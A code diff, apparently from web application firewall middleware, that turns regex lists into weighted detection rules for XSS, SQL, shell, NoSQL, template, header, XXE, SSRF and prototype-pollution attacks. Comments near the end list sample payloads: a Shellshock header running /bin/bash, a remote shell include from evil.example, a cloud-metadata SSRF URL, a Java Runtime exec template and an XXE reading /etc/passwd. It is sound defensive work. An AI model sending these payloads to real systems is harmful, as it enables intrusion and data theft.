@@ -1,45 +1,191 @@
-export const detectXSSPatterns: RegExp[] = [
-    /<script[\s\S]*?>[\s\S]*?<\/script>/i, // Full <script> tag
-    /javascript:/i,                       // Inline JavaScript
-    /on\w+=['"]?[^'"]+['"]?/i,            // Event handlers (e.g., onerror, onclick)
-    /alert\(['"]?.*?['"]?\)/i,            // `alert()` function
-    /document\.(cookie|write|location)/i, // Accessing cookies or writing to DOM
-    /eval\(['"]?.*?['"]?\)/i,             // Use of `eval()` function
-    /window\.open\(/i,                    // Malicious pop-ups
-    /\bfetch\(/i,                         // JavaScript fetch API for malicious requests
-    /<\/?[a-z][\s\S]*?>/i,                // General HTML tags (potential HTML injection)
-];
-
-
-export const detectSQLInjectionPatterns: RegExp[] = [
-    /SELECT.*FROM/i,                     // Basic SQL SELECT injection
-    /INSERT\s+INTO/i,                    // Basic SQL INSERT injection
-    /\b(OR|AND)\s+1\s*=\s*1\b/i,         // Boolean-based SQL injection
-    /\bUNION\s+(ALL\s+)?SELECT\b/i,      // UNION-based injection
-    /;\s*DROP\s+(TABLE|DATABASE)/i,      // Drop table or database
-    /;\s*(ALTER|CREATE|EXECUTE|INSERT)/i, // Other SQL manipulation
-    /\b(CHAR|CONCAT|LOAD_FILE|SLEEP)\b/i, // SQL functions commonly used in injection
-    /--\s/i,                             // Comment marker for SQL injection
-    /\/\*.*\*\//,                        // Block comments
-    /\b\d+\s*=\s*\d+\b/,                 // Tautology expressions (e.g., 1=1)
-];
-
-export const detectLfiPatterns: RegExp[] = [
-    /\.\.\//,                             // Directory traversal (../)
-    /\/etc\/passwd/i,                     // Attempt to access Unix password file
-    /\/proc\/self/i,                      // Attempt to access Linux proc files
-    /\bwindows\\system32\b/i,             // Windows system directory access
-    /\bboot\.ini\b/i,                     // Windows boot configuration file
-    /\.htaccess/i,                        // Apache configuration file
-    /php:\/\/input/i,                     // Accessing PHP input stream
-    /php:\/\/filter/i,                    // PHP filter wrapper
-    /data:\/\//i,                         // Data stream wrapper
+/**
+ * A single detection rule. Every match adds the rule's `weight` to the anomaly
+ * score of the request, and rules are only used if their `paranoiaLevel` is at
+ * or below the one configured: the higher the level, the more attacks are
+ * caught, at the cost of more false positives.
+ */
+export type DetectionRule = {
+    id: string;
+    pattern: RegExp;
+    weight: number;
+    paranoiaLevel: number;
+    // Whether the pattern is matched against values (the default), object keys,
+    // or the path to each key (e.g. `body.constructor.prototype`)
+    scope?: 'key' | 'value' | 'path';
+};
+
+// Rule weights, after the severities used by the OWASP Core Rule Set
+export const CRITICAL = 5;
+export const ERROR = 4;
+export const WARNING = 3;
+export const NOTICE = 2;
+
+export const xssRules: DetectionRule[] = [
+    { id: 'xss-100', pattern: /<script\b[^>]{0,200}>/i, weight: CRITICAL, paranoiaLevel: 1 }, // <script> tag, closed or not
+    { id: 'xss-110', pattern: /javascript:/i, weight: CRITICAL, paranoiaLevel: 1 }, // Inline JavaScript
+    { id: 'xss-120', pattern: /\bon(?:error|load|click|dblclick|mouse(?:over|out|down|up|move|enter|leave)|key(?:down|up|press)|focus(?:in|out)?|blur|change|input|submit|reset|select|toggle|animation(?:start|end|iteration)|transition(?:end|start|run)|begin|end|pointer(?:over|enter|down|up|move)|wheel|scroll|drag(?:start|end|over|enter|leave)?|drop|copy|cut|paste|play|pause|ended|beforeunload|unload|hashchange|popstate|message|show|resize|contextmenu|auxclick)\s*=/i, weight: NOTICE, paranoiaLevel: 1 }, // Event handlers (e.g., onerror, onclick), but not `session_id=`
+    { id: 'xss-130', pattern: /alert\([^)]{0,200}\)/i, weight: ERROR, paranoiaLevel: 1 }, // `alert()` function
+    { id: 'xss-140', pattern: /document\.(cookie|write|location)/i, weight: CRITICAL, paranoiaLevel: 1 }, // Accessing cookies or writing to DOM
+    { id: 'xss-150', pattern: /eval\([^)]{0,200}\)/i, weight: ERROR, paranoiaLevel: 1 }, // Use of `eval()` function
+    { id: 'xss-160', pattern: /window\.open\(/i, weight: ERROR, paranoiaLevel: 1 }, // Malicious pop-ups
+    { id: 'xss-170', pattern: /\bfetch\(/i, weight: NOTICE, paranoiaLevel: 1 }, // JavaScript fetch API for malicious requests
+    { id: 'xss-180', pattern: /<\/?[a-z][^<>]{0,200}>/i, weight: NOTICE, paranoiaLevel: 1 }, // General HTML tags (potential HTML injection)
+];
+
+export const detectXSSPatterns: RegExp[] = xssRules.map((rule) => rule.pattern);
+
+
+export const sqlInjectionRules: DetectionRule[] = [
+    { id: 'sqli-100', pattern: /SELECT\b.{0,200}?\bFROM/i, weight: NOTICE, paranoiaLevel: 1 }, // Basic SQL SELECT injection
+    { id: 'sqli-110', pattern: /INSERT\s+INTO/i, weight: ERROR, paranoiaLevel: 1 }, // Basic SQL INSERT injection
+    { id: 'sqli-120', pattern: /\b(OR|AND)\s+1\s*=\s*1\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Boolean-based SQL injection
+    { id: 'sqli-130', pattern: /\bUNION\s+(ALL\s+)?SELECT\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // UNION-based injection
+    { id: 'sqli-140', pattern: /;\s*DROP\s+(TABLE|DATABASE)/i, weight: CRITICAL, paranoiaLevel: 1 }, // Drop table or database
+    { id: 'sqli-150', pattern: /;\s*(ALTER|CREATE|EXECUTE|INSERT)/i, weight: ERROR, paranoiaLevel: 1 }, // Other SQL manipulation
+    { id: 'sqli-160', pattern: /\b(CHAR|CONCAT|LOAD_FILE|SLEEP)\b/i, weight: NOTICE, paranoiaLevel: 1 }, // SQL functions commonly used in injection
+    { id: 'sqli-170', pattern: /--\s/i, weight: NOTICE, paranoiaLevel: 1 }, // Comment marker for SQL injection
+    { id: 'sqli-180', pattern: /\/\*.{0,200}?\*\//, weight: NOTICE, paranoiaLevel: 1 }, // Block comments
+    { id: 'sqli-190', pattern: /\b\d+\s*=\s*\d+\b/, weight: NOTICE, paranoiaLevel: 1 }, // Tautology expressions (e.g., 1=1)
+];
+
+export const detectSQLInjectionPatterns: RegExp[] = sqlInjectionRules.map((rule) => rule.pattern);
+
+export const lfiRules: DetectionRule[] = [
+    { id: 'lfi-100', pattern: /\.\.\//, weight: ERROR, paranoiaLevel: 1 }, // Directory traversal (../)
+    { id: 'lfi-110', pattern: /\/etc\/passwd/i, weight: CRITICAL, paranoiaLevel: 1 }, // Attempt to access Unix password file
+    { id: 'lfi-120', pattern: /\/proc\/self/i, weight: CRITICAL, paranoiaLevel: 1 }, // Attempt to access Linux proc files
+    { id: 'lfi-130', pattern: /\bwindows\\system32\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Windows system directory access
+    { id: 'lfi-140', pattern: /\bboot\.ini\b/i, weight: ERROR, paranoiaLevel: 1 }, // Windows boot configuration file
+    { id: 'lfi-150', pattern: /\.htaccess/i, weight: ERROR, paranoiaLevel: 1 }, // Apache configuration file
+    { id: 'lfi-160', pattern: /php:\/\/input/i, weight: CRITICAL, paranoiaLevel: 1 }, // Accessing PHP input stream
+    { id: 'lfi-170', pattern: /php:\/\/filter/i, weight: CRITICAL, paranoiaLevel: 1 }, // PHP filter wrapper
+    { id: 'lfi-180', pattern: /data:\/\//i, weight: ERROR, paranoiaLevel: 1 }, // Data stream wrapper
+];
+
+export const detectLfiPatterns: RegExp[] = lfiRules.map((rule) => rule.pattern);
+
+export const rfiRules: DetectionRule[] = [
+    { id: 'rfi-100', pattern: /(?:^|[=\s"'(])(?:https?|ftps?|smb):\/\/[^\s?#]+\.(?:php\d?|phtml|inc|txt|asp|aspx|jsp|pl|py|cgi|sh)(?:\?\s*$|%00|\x00)/i, weight: CRITICAL, paranoiaLevel: 1 }, // Remote script, with a `?` or null byte to cut off the extension appended by the app
+    { id: 'rfi-110', pattern: /(?:^|[=\s"'(])(?:https?|ftps?):\/\/[^\s]+\?$/i, weight: WARNING, paranoiaLevel: 2 }, // Trailing `?` to cut off the extension appended by the app
+    { id: 'rfi-120', pattern: /\b(?:expect|zip|phar|ssh2|rar|glob):\/\//i, weight: CRITICAL, paranoiaLevel: 1 }, // PHP stream wrappers used for inclusion
+    { id: 'rfi-130', pattern: /^\s*\\\\[\w.-]+\\[\w$.-]+/, weight: ERROR, paranoiaLevel: 1 }, // UNC path to a remote share (\\host\share)
+    { id: 'rfi-140', pattern: /(?:^|[=\s"'(])(?:https?|ftps?|smb):\/\/[^\s?#]+\.(?:php\d?|phtml|inc|txt|asp|aspx|jsp|pl|py|cgi|sh)\b/i, weight: NOTICE, paranoiaLevel: 2 }, // Any link to a script, as ordinary links often are
+];
+
+export const detectRfiPatterns: RegExp[] = rfiRules.map((rule) => rule.pattern);
+
+export const shellInjectionRules: DetectionRule[] = [
+    { id: 'shell-100', pattern: /[;&|`\n][ \t]*(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python\d?|perl|ruby|php|rm|chmod|chown|ping|nslookup|sleep|powershell|cmd)[ \t]+(?:-{1,2}\w|[/~.$\\'"]|\d|[a-z][a-z\d+.-]*:\/\/)/i, weight: CRITICAL, paranoiaLevel: 1 }, // Chained command with a flag, path, number or URL after it (but not words, as in `cats & dogs; ls is my fav`)
+    { id: 'shell-110', pattern: /\$\([^()]*\)/, weight: ERROR, paranoiaLevel: 1 }, // Command substitution $(...)
+    { id: 'shell-120', pattern: /`\s*(?:cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|ping|sleep)\b[^`]*`/i, weight: CRITICAL, paranoiaLevel: 1 }, // Backtick command substitution
+    { id: 'shell-130', pattern: /\$\{IFS\}|\$IFS\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Spaces smuggled in with $IFS
+    { id: 'shell-140', pattern: /\/bin\/(?:ba|z|da)?sh\b|\bcmd(?:\.exe)?\s+\/c\b|\bpowershell(?:\.exe)?\s+-/i, weight: CRITICAL, paranoiaLevel: 1 }, // Shell interpreters
+    { id: 'shell-150', pattern: /\b(?:wget|curl)\s+(?:-\S{1,50}\s+){0,10}(?:https?|ftp):\/\//i, weight: ERROR, paranoiaLevel: 1 }, // Downloading a payload
+    { id: 'shell-160', pattern: /\(\)\s*\{\s*:?\s*;?\s*\}\s*;/, weight: CRITICAL, paranoiaLevel: 1 }, // Shellshock (e.g. in User-Agent)
+    { id: 'shell-170', pattern: /[;&|`\n][ \t]*(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python\d?|perl|ruby|php|rm|chmod|chown|ping|nslookup|sleep|powershell|cmd)[ \t]*(?:$|[;&|`<>)\r\n])/i, weight: ERROR, paranoiaLevel: 1 }, // Chained command on its own (`; id`, `| sh`), which a sentence can end with too
 ];
 
+export const detectShellInjectionPatterns: RegExp[] = shellInjectionRules.map((rule) => rule.pattern);
+
+// Query operators, as in `{"password": {"$ne": null}}` or `?password[$ne]=`
+const mongoComparisonOperators = 'ne|eq|gte?|lte?|n?in|regex|exists|or|and|nor|not|elemMatch';
+const mongoOperators = `${mongoComparisonOperators}|where|expr|function|accumulator`;
+
+export const nosqlInjectionRules: DetectionRule[] = [
+    { id: 'nosql-100', pattern: /^\$(?:where|expr|function|accumulator)$/, weight: CRITICAL, paranoiaLevel: 1, scope: 'key' }, // Operators that run JavaScript or expressions
+    { id: 'nosql-110', pattern: new RegExp(`^\\$(?:${mongoComparisonOperators})$`), weight: CRITICAL, paranoiaLevel: 1, scope: 'key' }, // Comparison and logical operators
+    { id: 'nosql-120', pattern: new RegExp(`\\[\\s*\\$(?:${mongoOperators})\\s*\\]`), weight: CRITICAL, paranoiaLevel: 1 }, // Operators in a raw query string (password[$ne]=)
+    { id: 'nosql-130', pattern: new RegExp(`\\{\\s*["']?\\$(?:${mongoOperators})["']?\\s*:`), weight: CRITICAL, paranoiaLevel: 1 }, // Operators in JSON sent as a string
+    { id: 'nosql-140', pattern: /\bthis\.\w+\s*(?:[=!]==?|[<>]=?)/, weight: ERROR, paranoiaLevel: 1 }, // `$where` style comparisons (this.password == ...)
+    { id: 'nosql-150', pattern: /['"]\s*;\s*return\s+(?:true|1|this)\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Breaking out of a JavaScript string ('; return true; var x=')
+    { id: 'nosql-160', pattern: /\|\|\s*['"]?(\w+)['"]?\s*===?\s*['"]?\1['"]?/, weight: CRITICAL, paranoiaLevel: 1 }, // JavaScript tautology (' || '1'=='1)
+    { id: 'nosql-170', pattern: /\bsleep\s*\(\s*\d+\s*\)/i, weight: ERROR, paranoiaLevel: 1 }, // Time-based probing, e.g. in `$where`
+];
+
+export const detectNoSqlInjectionPatterns: RegExp[] = nosqlInjectionRules.map((rule) => rule.pattern);
+
+// URLs pointing at internal hosts are found in `ssrf.ts`, as the host has to be
+// parsed first. These are the schemes that are dangerous wherever they point.
+export const ssrfRules: DetectionRule[] = [
+    { id: 'ssrf-140', pattern: /\b(?:gopher|dict|ldap|tftp|netdoc|jar):[/\\]{2}/i, weight: CRITICAL, paranoiaLevel: 1 }, // Schemes used to talk to internal services
+    { id: 'ssrf-150', pattern: /\bfile:[/\\]{2}/i, weight: ERROR, paranoiaLevel: 1 }, // Local files fetched as a URL
+];
+
+export const detectSsrfPatterns: RegExp[] = ssrfRules.map((rule) => rule.pattern);
+
+export const prototypePollutionRules: DetectionRule[] = [
+    { id: 'proto-100', pattern: /^__proto__$/, weight: CRITICAL, paranoiaLevel: 1, scope: 'key' }, // {"__proto__": {...}}
+    { id: 'proto-110', pattern: /\.constructor\.prototype(?:\.|$)/, weight: CRITICAL, paranoiaLevel: 1, scope: 'path' }, // {"constructor": {"prototype": {...}}}
+    { id: 'proto-120', pattern: /(?:^|[^\w$])__proto__(?:[^\w$]|$)/, weight: CRITICAL, paranoiaLevel: 1 }, // __proto__ in a raw query string or JSON sent as a string
+    { id: 'proto-130', pattern: /\bconstructor\s*(?:\[\s*["']?|\.\s*)prototype\b/, weight: CRITICAL, paranoiaLevel: 1 }, // constructor[prototype] or constructor.prototype
+];
+
+export const detectPrototypePollutionPatterns: RegExp[] = prototypePollutionRules.map((rule) => rule.pattern);
+
+// Headers worth forging in a response
+const injectableHeaders = 'set-cookie|location|refresh|content-(?:type|length|disposition|security-policy)|access-control-allow-[\\w-]+|transfer-encoding|x-xss-protection|link';
+
+export const headerInjectionRules: DetectionRule[] = [
+    { id: 'crlf-100', pattern: new RegExp(`[\\r\\n][ \\t]*(?:${injectableHeaders})\\s*:`, 'i'), weight: CRITICAL, paranoiaLevel: 1 }, // CR/LF followed by a header (e.g. %0d%0aSet-Cookie:)
+    { id: 'crlf-110', pattern: /[\r\n][ \t]*HTTP\/\d(?:\.\d)?\s+\d{3}\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // A whole second response (HTTP response splitting)
+    { id: 'crlf-120', pattern: /(?:\r?\n){2}[ \t]*<(?:html|script|body|svg)\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Headers ended early, and a body of our own
+    { id: 'crlf-130', pattern: /%0[da](?:%0[da]){0,10}\s*[\w-]{1,50}\s*(?::|%3a)/i, weight: ERROR, paranoiaLevel: 1 }, // Encoded CR/LF followed by a header, left encoded
+    { id: 'crlf-140', pattern: /[\u560a\u560d]|%e5%98%8[ad]/i, weight: CRITICAL, paranoiaLevel: 1 }, // Unicode characters some servers cut down to CR/LF
+    { id: 'crlf-150', pattern: /[\r\n][\w-]+\s*:/, weight: WARNING, paranoiaLevel: 2 }, // CR/LF followed by anything header-like
+];
+
+export const detectHeaderInjectionPatterns: RegExp[] = headerInjectionRules.map((rule) => rule.pattern);
+
+export const sstiRules: DetectionRule[] = [
+    { id: 'ssti-100', pattern: /\{\{\s*\d+\s*[*+\/-]\s*\d+\s*\}\}|[$#*@]\{\s*\d+\s*[*+\/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+\/-]\s*\d+\s*%>|@\(\s*\d+\s*[*+\/-]\s*\d+\s*\)/, weight: CRITICAL, paranoiaLevel: 1 }, // Arithmetic probes: {{7*7}}, ${7*7}, #{7*7}, <%= 7*7 %>, @(7*7)
+    { id: 'ssti-110', pattern: /__(?:class|mro|subclasses|globals|builtins|import|bases?|init)__/, weight: CRITICAL, paranoiaLevel: 1 }, // Python object traversal (Jinja2, Mako)
+    { id: 'ssti-120', pattern: /\{\{-?\s*(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|_self|app)\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // Jinja2 and Twig globals
+    { id: 'ssti-130', pattern: /\bconstructor\s*\.\s*constructor\s*\(|\bprocess\s*\.\s*(?:mainModule|binding)\b|\brequire\s*\(\s*['"`]child_process|\bglobal\s*\.\s*process\b/, weight: CRITICAL, paranoiaLevel: 1 }, // Node engines (Handlebars, Pug, EJS, Nunjucks)
+    { id: 'ssti-140', pattern: /\bT\s*\(\s*java\.|freemarker\.template\.utility\.Execute|<#assign\b|\?new\s*\(\s*\)|#set\s*\(\s*\$|\$class\.(?:inspect|forName)|getRuntime\s*\(\s*\)\s*\.\s*exec/i, weight: CRITICAL, paranoiaLevel: 1 }, // Java engines (Spring EL, FreeMarker, Velocity, Thymeleaf)
+    { id: 'ssti-150', pattern: /\{%-?\s*(?:import|include|extends|from|exec|debug|set|raw)\b/i, weight: WARNING, paranoiaLevel: 2 }, // Jinja2, Twig and Nunjucks statements
+    { id: 'ssti-160', pattern: /\{\{[^{}]{1,100}\}\}|[$#]\{[^{}]{1,100}\}|<%[^%]{1,100}%>/, weight: NOTICE, paranoiaLevel: 2 }, // Any template expression
+];
+
+export const detectSstiPatterns: RegExp[] = sstiRules.map((rule) => rule.pattern);
+
+export const xxeRules: DetectionRule[] = [
+    { id: 'xxe-100', pattern: /<!ENTITY\s+(?:%\s*)?[\w:.-]+\s+(?:SYSTEM|PUBLIC)\b/i, weight: CRITICAL, paranoiaLevel: 1 }, // External entity (<!ENTITY xxe SYSTEM "file:///etc/passwd">)
+    { id: 'xxe-110', pattern: /<!ENTITY\s+%/i, weight: CRITICAL, paranoiaLevel: 1 }, // Parameter entity, used for blind XXE
+    { id: 'xxe-120', pattern: /<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s*["']/i, weight: CRITICAL, paranoiaLevel: 1 }, // External DTD
+    { id: 'xxe-130', pattern: /<!DOCTYPE\s+[\w:.-]+\s+PUBLIC\s*["']/i, weight: ERROR, paranoiaLevel: 1 }, // Public DTD, fetched by some parsers
+    { id: 'xxe-140', pattern: /<!ENTITY\s+[\w:.-]+\s+["'](?:[^"'&]{0,200}&[\w:.-]+;){3,}/i, weight: CRITICAL, paranoiaLevel: 1 }, // Entities built from other entities (billion laughs)
+    { id: 'xxe-150', pattern: /<!DOCTYPE\s+[\w:.-]+\s*\[/i, weight: ERROR, paranoiaLevel: 1 }, // Inline DTD, needed to declare entities
+    { id: 'xxe-160', pattern: /<xi:include\b|xmlns:xi\s*=\s*["']http:\/\/www\.w3\.org\/2001\/XInclude/i, weight: CRITICAL, paranoiaLevel: 1 }, // XInclude
+];
+
+export const detectXxePatterns: RegExp[] = xxeRules.map((rule) => rule.pattern);
+
+export const detectionRules = {
+    xss: xssRules,
+    sqlInjection: sqlInjectionRules,
+    lfi: lfiRules,
+    rfi: rfiRules,
+    shellInjection: shellInjectionRules,
+    nosqlInjection: nosqlInjectionRules,
+    ssrf: ssrfRules,
+    prototypePollution: prototypePollutionRules,
+    headerInjection: headerInjectionRules,
+    ssti: sstiRules,
+    xxe: xxeRules,
+};
+
 export const detectAttackPatterns = {
     xss: detectXSSPatterns,
     sqlInjection: detectSQLInjectionPatterns,
     lfi: detectLfiPatterns,
+    rfi: detectRfiPatterns,
+    shellInjection: detectShellInjectionPatterns,
+    nosqlInjection: detectNoSqlInjectionPatterns,
+    ssrf: detectSsrfPatterns,
+    prototypePollution: detectPrototypePollutionPatterns,
+    headerInjection: detectHeaderInjectionPatterns,
+    ssti: detectSstiPatterns,
+    xxe: detectXxePatterns,
 };
 
 
@@ -55,6 +201,33 @@ export const detectAttackPatterns = {
 // LFI	Query, Body	?file=../../etc/passwd, body: {"file": "/var/log/secure"}
 
 
+// RFI	Query, Body	?page=http://evil.example/shell.txt?, body: {"template": "\\\\evil\\share\\x.php"}
+
+
+// Shell Injection	Query, Body, Headers	?host=127.0.0.1; cat /etc/passwd, User-Agent: () { :; }; /bin/bash -c 'id'
+
+
+// NoSQL Injection	Query, Body (keys too)	?password[$ne]=, body: {"password": {"$ne": null}}, {"$where": "this.isAdmin == true"}
+
+
+// SSRF	Query, Body	?webhook=http://169.254.169.254/latest/meta-data/, body: {"avatar": "http://0x7f000001:6379/"}
+
+
+// Prototype Pollution	Query, Body, Params (keys too)	?constructor[prototype][isAdmin]=1, body: {"__proto__": {"isAdmin": true}}
+
+
+// Header Injection	Query, Params, Path, Raw query, Cookies	?next=/%0d%0aSet-Cookie:%20session=x, ?lang=en%0d%0a%0d%0a<html>...
+
+
+// SSTI	Query, Body, Params	?name={{7*7}}, body: {"snippet": "{{ self.__init__.__globals__ }}"}, ${T(java.lang.Runtime).getRuntime().exec('id')}
+
+
+// XXE	Body (text and XML), Query	<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
+
+
+// CSRF	Origin/Referer headers of POST, PUT, PATCH and DELETE requests	Origin: https://evil.example on a request to https://app.example
+
+
 
 
 